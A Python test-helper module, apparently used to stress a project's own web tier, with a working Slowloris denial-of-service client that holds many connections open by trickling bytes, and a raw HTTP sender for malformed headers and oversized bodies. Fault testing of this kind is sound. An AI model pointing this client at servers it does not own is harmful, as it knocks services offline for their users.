"""Hostile HTTP clients for the fault matrix and the web-tier benchmark.

`Slowloris` opens many connections that each promise a request and send it one byte at a
time, the attack that starved the old thread-per-connection server. `raw_exchange` sends
exact bytes (a malformed header, a huge body) and reads the answer without any client
library tidying the request up.
"""

from __future__ import annotations

import socket
import threading
import time
from collections.abc import Iterable
from dataclasses import dataclass


@dataclass(frozen=True)
class SlowlorisOptions:
    connections: int = 200
    interval: float = 2.0  # seconds between trickled bytes on each connection
    # "body": full headers promising Content-Length 1000, then the body a byte at a time;
    # "headers": the headers themselves a byte at a time, never finished.
    mode: str = "body"
    path: str = "/slack/events"


class Slowloris:
    def __init__(self, host: str, port: int, options: SlowlorisOptions | None = None) -> None:
        self.host, self.port = host, port
        self.options = options or SlowlorisOptions()
        self._sockets: list[socket.socket] = []
        self._stop = threading.Event()
        self._thread: threading.Thread | None = None
        self.refused = 0  # connections the server would not accept or closed early

    def _opening(self) -> bytes:
        head = (
            f"POST {self.options.path} HTTP/1.1\r\nHost: {self.host}\r\n"
            "Content-Type: application/x-www-form-urlencoded\r\n"
        )
        if self.options.mode == "headers":
            return head.encode()
        return (head + "Content-Length: 1000\r\n\r\n").encode()

    def start(self) -> Slowloris:
        opening = self._opening()
        for _ in range(self.options.connections):
            try:
                sock = socket.create_connection((self.host, self.port), timeout=2)
                sock.sendall(opening)
            except OSError:
                self.refused += 1
                continue
            self._sockets.append(sock)
        self._thread = threading.Thread(target=self._trickle, name="slowloris", daemon=True)
        self._thread.start()
        return self

    def _trickle(self) -> None:
        byte = b"a" if self.options.mode == "body" else b"X"
        while not self._stop.wait(self.options.interval):
            for sock in list(self._sockets):
                try:
                    sock.sendall(byte)
                except OSError:
                    self._sockets.remove(sock)
                    self.refused += 1
                    sock.close()

    @property
    def open_connections(self) -> int:
        return len(self._sockets)

    def stop(self) -> None:
        self._stop.set()
        if self._thread is not None:
            self._thread.join(timeout=self.options.interval + 2)
        for sock in self._sockets:
            sock.close()
        self._sockets.clear()

    def __enter__(self) -> Slowloris:
        return self.start()

    def __exit__(self, *_: object) -> None:
        self.stop()


@dataclass(frozen=True)
class RawAnswer:
    status: int
    head: str
    body: bytes
    sent_bytes: int  # how much of the request the server took before answering


def raw_exchange(
    host: str,
    port: int,
    head: bytes,
    body_chunks: Iterable[bytes] = (),
    timeout: float = 10.0,
) -> RawAnswer:
    """Send `head` then the chunks until the server answers or stops reading; read the answer."""
    sent = 0
    with socket.create_connection((host, port), timeout=timeout) as sock:
        sock.sendall(head)
        sock.setblocking(False)
        answer = b""
        deadline = time.monotonic() + timeout
        for chunk in body_chunks:
            answer += _drain(sock)
            if answer or time.monotonic() > deadline:
                break
            try:
                sent += _send_some(sock, chunk)
            except OSError:  # the server closed its side: it will not read the rest
                break
        sock.setblocking(True)
        sock.settimeout(max(0.1, deadline - time.monotonic()))
        answer += _read_until_closed(sock)
    return _parse(answer, sent)


def _send_some(sock: socket.socket, chunk: bytes) -> int:
    view, total = memoryview(chunk), 0
    stall_until = time.monotonic() + 2.0
    while total < len(chunk):
        try:
            total += sock.send(view[total:])
        except BlockingIOError:
            if time.monotonic() > stall_until:
                raise OSError("the server stopped reading") from None
            time.sleep(0.01)
    return total


def _drain(sock: socket.socket) -> bytes:
    try:
        return sock.recv(65536)
    except (BlockingIOError, InterruptedError):
        return b""
    except OSError:
        return b""


def _read_until_closed(sock: socket.socket) -> bytes:
    data = b""
    try:
        while chunk := sock.recv(65536):
            data += chunk
            if b"\r\n\r\n" in data and _complete(data):
                break
    except OSError:
        pass
    return data


def _complete(data: bytes) -> bool:
    head, _, body = data.partition(b"\r\n\r\n")
    for line in head.split(b"\r\n"):
        if line.lower().startswith(b"content-length:"):
            return len(body) >= int(line.split(b":", 1)[1])
    return False


def _parse(answer: bytes, sent: int) -> RawAnswer:
    head, _, body = answer.partition(b"\r\n\r\n")
    status_line = head.split(b"\r\n", 1)[0].decode("latin-1")
    parts = status_line.split()
    status = int(parts[1]) if len(parts) > 1 and parts[1].isdigit() else 0
    return RawAnswer(status, head.decode("latin-1"), body, sent)
